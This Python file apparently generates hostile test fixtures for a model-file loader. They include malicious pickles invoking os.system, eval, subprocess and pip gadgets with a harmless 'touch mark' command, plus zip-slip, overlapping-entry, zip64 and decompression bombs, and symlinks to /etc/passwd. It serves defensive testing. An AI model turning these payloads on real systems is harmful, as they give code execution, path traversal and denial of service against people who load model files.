"""Build the hostile files of the attack list: pickles (P), directories (D), bombs and lies (B).

Every payload would create the file ``mark``; nothing here runs one. Files are written by hand, so
that no reader's idea of what is well formed gets in the way.
"""

from __future__ import annotations

import io
import os
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path

import numpy as np


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def call(
    module: str, name: str, argument: bytes, *, protocol: int = 2, tail: bytes = b"."
) -> bytes:
    head = b"\x80\x02" if protocol >= 2 else b""
    return head + f"c{module}\n{name}\n(".encode() + argument + b"tR" + tail


def torch_zip(
    pickle: bytes,
    *,
    root: str = "archive",
    storages: dict[str, bytes] | None = None,
    extra: dict[str, bytes] | None = None,
    method: int = zipfile.ZIP_STORED,
) -> bytearray:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        archive.writestr(f"{root}/data.pkl", pickle)
        archive.writestr(f"{root}/byteorder", "little")
        archive.writestr(f"{root}/version", "3\n")
        for key, data in (storages or {}).items():
            archive.writestr(f"{root}/data/{key}", data)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return bytearray(stream.getvalue())


def tensor_pickle(
    shape: tuple[int, ...],
    stride: tuple[int, ...],
    offset: int,
    numel: int,
    storage: str = "FloatStorage",
) -> bytes:
    """``{"w": tensor}`` with these claims."""
    return (
        b"\x80\x02}" + text("w") + b"ctorch._utils\n_rebuild_tensor_v2\n(("
        + text("storage") + f"ctorch\n{storage}\n".encode() + text("0") + text("cpu") + long(numel)
        + b"tQ" + long(offset) + longs(shape) + longs(stride)
        + b"\x89ccollections\nOrderedDict\n)RtRs."
    )  # fmt: skip


def long(value: int) -> bytes:
    raw = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def longs(values: tuple[int, ...]) -> bytes:
    return b"(" + b"".join(map(long, values)) + b"t"


def tar(members: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return stream.getvalue()


def object_array(pickle: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickle


def patched(data: bytearray, *edits: tuple[int, bytes]) -> bytes:
    for at, value in edits:
        data[at : at + len(value)] = value
    return bytes(data)


def pickles(mark: Path) -> dict[str, bytes]:
    """P1 to P25, by name; each is the content of one file."""
    command = f"touch {mark}"
    evil = call("posix", "system", text(command))
    quoted = text(f"__import__('os').system({command!r})")
    line = b"V" + command.encode() + b"\n"
    benign = b"\x80\x02}."
    crc_zip = torch_zip(evil)
    central = crc_zip.find(b"PK\x01\x02")
    flag_zip, name_zip = torch_zip(evil), torch_zip(evil)
    twice = io.BytesIO()
    with zipfile.ZipFile(twice, "w") as archive:
        archive.writestr("archive/data.pkl", benign)
        archive.writestr("archivf/data.pkl", evil)
        archive.writestr("archive/version", "3\n")
    same = bytes(twice.getvalue()).replace(b"archivf/", b"archive/")
    nested = (
        b"\x80\x02cbuiltins\ngetattr\n(c__builtin__\n__import__\n(" + text("os") + b"tR"
        + text("system") + b"tR(" + text(command) + b"tR."
    )  # fmt: skip
    dotted = (
        b"\x80\x04\x8c\x02os\x8c\x0epath.os.system\x93\x8c"
        + bytes([len(command)]) + command.encode() + b"\x85R."
    )  # fmt: skip
    return {
        "P01_raw_os_system": call("os", "system", text(command)),
        "P02_protocol_0_posix": call("posix", "system", line, protocol=0),
        "P03_zip_posix_system": bytes(torch_zip(evil)),
        "P04_zip_eval": bytes(torch_zip(call("builtins", "eval", quoted))),
        "P05_collect_env": bytes(torch_zip(call("torch.utils.collect_env", "run", line))),
        "P06_load_from_bytes": bytes(
            torch_zip(
                call(
                    "torch.storage", "_load_from_bytes", b"B" + struct.pack("<I", len(evil)) + evil
                )
            )
        ),
        "P07_getattr_chain": bytes(torch_zip(nested)),
        "P08_dotted_stack_global": bytes(torch_zip(dotted)),
        "P09_inst": bytes(torch_zip(b"\x80\x02(" + text(command) + b"iposix\nsystem\n.")),
        "P10_obj": bytes(torch_zip(b"\x80\x02(cposix\nsystem\n" + text(command) + b"o.")),
        "P10_newobj_ex": bytes(
            torch_zip(
                b"\x80\x04csubprocess\nPopen\n(" + text("x") + b"t}" + text("shell") + b"\x88s\x92."
            )
        ),
        "P11_build_setstate": bytes(
            torch_zip(
                b"\x80\x02cargparse\nNamespace\n)\x81}"
                + text("__setstate__")
                + b"cposix\nsystem\nsb"
                + text(command)
                + b"b."
            )
        ),
        "P12_persistent_id_reduce": bytes(torch_zip(b"\x80\x02" + evil[2:-1] + b"Q.")),
        "P13_extension": bytes(torch_zip(b"\x80\x02\x82\x01.")),
        "P14_pip_main": call("pip", "main", line),
        "P15_runpy": call("runpy", "run_path", line),
        "P16_import_module": call("importlib", "import_module", text("antigravity")),
        "P17_marshal": call("marshal", "loads", b"U\x01N"),
        "P18_spawnv": call("multiprocessing.util", "spawnv_passfds", line),
        "P19_broken_after_call": call("posix", "system", text(command), tail=b"0XXXXX"),
        "P20_wrong_crc": patched(
            crc_zip, (central + 16, b"\xde\xad\xbe\xef"), (14, b"\xde\xad\xbe\xef")
        ),
        "P21_encrypted_bit": patched(flag_zip, (central + 8, bytes([flag_zip[central + 8] | 1]))),
        "P22_local_name_differs": patched(name_zip, (30, b"XXXX")),
        "P23_two_roots": twice.getvalue(),
        "P23_same_name_twice": same,
        "P24_tar_pickle": tar(
            {"sys_info": benign, "storages": benign, "tensors": benign, "pickle": evil}
        ),
        "P24_tar_storages": tar(
            {"sys_info": benign, "storages": evil, "tensors": benign, "pickle": benign}
        ),
        "P25_npy_objects": object_array(evil),
        "P25_npz_objects": _npz(object_array(evil)),
    }


def _npz(array: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("w.npy", array)
    return stream.getvalue()


def bombs() -> dict[str, bytes]:
    """B1 to B18, by name."""
    four = {"0": bytes(16)}
    doubled = b"".join(
        b"h" + bytes([i]) + b"h" + bytes([i]) + b"\x86q" + bytes([i + 1]) for i in range(1, 41)
    )
    laughs = b"\x80\x02}q\x00" + text("m") + b"(]q\x01" + doubled + b"ts."
    key_bomb = b"\x80\x02}" + b"K\x01\x85" * 200_000 + b"Ns."
    cycle = b"\x80\x02]q\x00h\x00a."
    benign = b"\x80\x02}."
    return {
        "B01_tensor_larger_than_storage": bytes(
            torch_zip(tensor_pickle((1 << 20,), (1,), 0, 4), storages=four)
        ),
        "B02_record_shorter_than_declared": bytes(
            torch_zip(tensor_pickle((1 << 20,), (1,), 0, 1 << 20), storages=four)
        ),
        "B03_negative_offset": bytes(torch_zip(tensor_pickle((4,), (1,), -4, 4), storages=four)),
        "B04_stride_overflow": bytes(
            torch_zip(tensor_pickle((2, 2), (1 << 62, 1), 0, 4), storages=four)
        ),
        "B05_expanded_view": bytes(
            torch_zip(tensor_pickle((1 << 20, 1 << 20), (0, 0), 0, 4), storages=four)
        ),
        "B06_billion_laughs": bytes(torch_zip(laughs)),
        "B06_deep_tuple_as_key": bytes(torch_zip(key_bomb)),
        "B06_cycle": bytes(torch_zip(cycle)),
        "B07_long4": bytes(torch_zip(b"\x80\x02\x8b\xff\xff\xff\x7f\x01.")),
        "B08_huge_string": bytes(torch_zip(b"\x80\x04\x8d" + struct.pack("<Q", 1 << 50) + b"abc.")),
        "B09_setitems_on_int": bytes(torch_zip(b"\x80\x02K\x01(K\x00K\x01u.")),
        "B10_deep_nest": bytes(torch_zip(b"\x80\x02" + b"(" * 200_000 + b"t" * 200_000 + b".")),
        "B10_deep_single_tuples": bytes(torch_zip(b"\x80\x02)" + b"\x85" * 200_000 + b".")),
        "B11_deflated": _deflated(),
        "B12_zip_slip": bytes(
            torch_zip(benign, extra={"archive/data/../../../../tmp/zipslip": b"x"})
        ),
        "B12_backslash": bytes(torch_zip(benign, extra={"archive\\data\\1": b"x"})),
        "B13_overlap": _overlapping(),
        "B14_million_members": _many_members(),
        "B15_zip64_sizes": _zip64_lie(),
        "B16_gzip": _gzip(bytes(torch_zip(benign))),
        "B16_zstd": b"\x28\xb5\x2f\xfd" + bytes(64),
        "B16_7z": b"7z\xbc\xaf\x27\x1c" + bytes(64),
        "B17_unknown_dtype": bytes(
            torch_zip(tensor_pickle((4,), (1,), 0, 4, storage="QUInt4x2Storage"), storages=four)
        ),
        "B18_too_many_operations": bytes(torch_zip(b"\x80\x02" + b"N0" * 1_000_001 + b"N.")),
    }


def _deflated() -> bytes:
    """A storage of 1 GiB of zeros, as it claims; the first 64 MiB of them are there."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", tensor_pickle((1 << 28,), (1,), 0, 1 << 28))
        archive.writestr("archive/version", "3\n")
        with archive.open("archive/data/0", "w", force_zip64=True) as member:
            for _ in range(16):
                member.write(bytes(1 << 22))
    return stream.getvalue()


def _overlapping() -> bytes:
    """Fifield's quotation: two directory entries share one local file."""
    data = torch_zip(b"\x80\x02}.", storages={"0": bytes(16), "1": bytes(16)})
    first = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02"))
    entries = []
    at = first
    while data[at : at + 4] == b"PK\x01\x02":
        entries.append(at)
        at += 46 + sum(struct.unpack_from("<3H", data, at + 28))
    offset = struct.unpack_from("<I", data, entries[-2] + 42)[0]
    struct.pack_into("<I", data, entries[-1] + 42, offset + 1)
    return bytes(data)


def _many_members() -> bytes:
    """A directory that claims a million members."""
    data = torch_zip(b"\x80\x02}.")
    end = len(data) - 22
    size, offset = struct.unpack_from("<2I", data, end + 12)
    wide = struct.pack(
        "<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 1 << 20, 1 << 20, size, offset
    )
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end, 1)
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, size, offset, 0)
    return bytes(data[:end]) + wide + locator + tail


def _zip64_lie() -> bytes:
    """A member whose 64-bit size is 2**63."""
    data = torch_zip(b"\x80\x02}.")
    end = len(data) - 22
    count, _, size, offset = struct.unpack_from("<2H2I", data, end + 8)
    at = offset
    name_size = struct.unpack_from("<H", data, at + 28)[0]
    struct.pack_into("<2I", data, at + 20, 0xFFFFFFFF, 0xFFFFFFFF)
    struct.pack_into("<H", data, at + 30, 20)
    extra = struct.pack("<2H2Q", 1, 16, 1 << 63, 1 << 63)
    body = data[: at + 46 + name_size] + extra + data[at + 46 + name_size : end]
    return bytes(body) + struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, size + 20, offset, 0
    )


def _gzip(data: bytes) -> bytes:
    packer = zlib.compressobj(wbits=31)
    return packer.compress(data) + packer.flush()


def weights_of_nan() -> bytes:
    """B18: a file that is well formed and holds nothing but NaN."""
    data = np.full(4, np.nan, "<f4").tobytes()
    return bytes(torch_zip(tensor_pickle((4,), (1,), 0, 4), storages={"0": data}))


def special_files(folder: Path) -> dict[str, Path]:
    """D6 to D8: links out of the folder, a loop, a FIFO, a device, in place of a file."""
    folder.mkdir(parents=True, exist_ok=True)
    made = {}
    (folder / "outside").symlink_to("/etc/passwd")
    (folder / "loop").symlink_to(folder / "loop")
    os.mkfifo(folder / "fifo")
    (folder / "device").symlink_to("/dev/zero")
    for name in ("outside", "loop", "fifo", "device"):
        made[f"D_{name}"] = folder / name
    return made
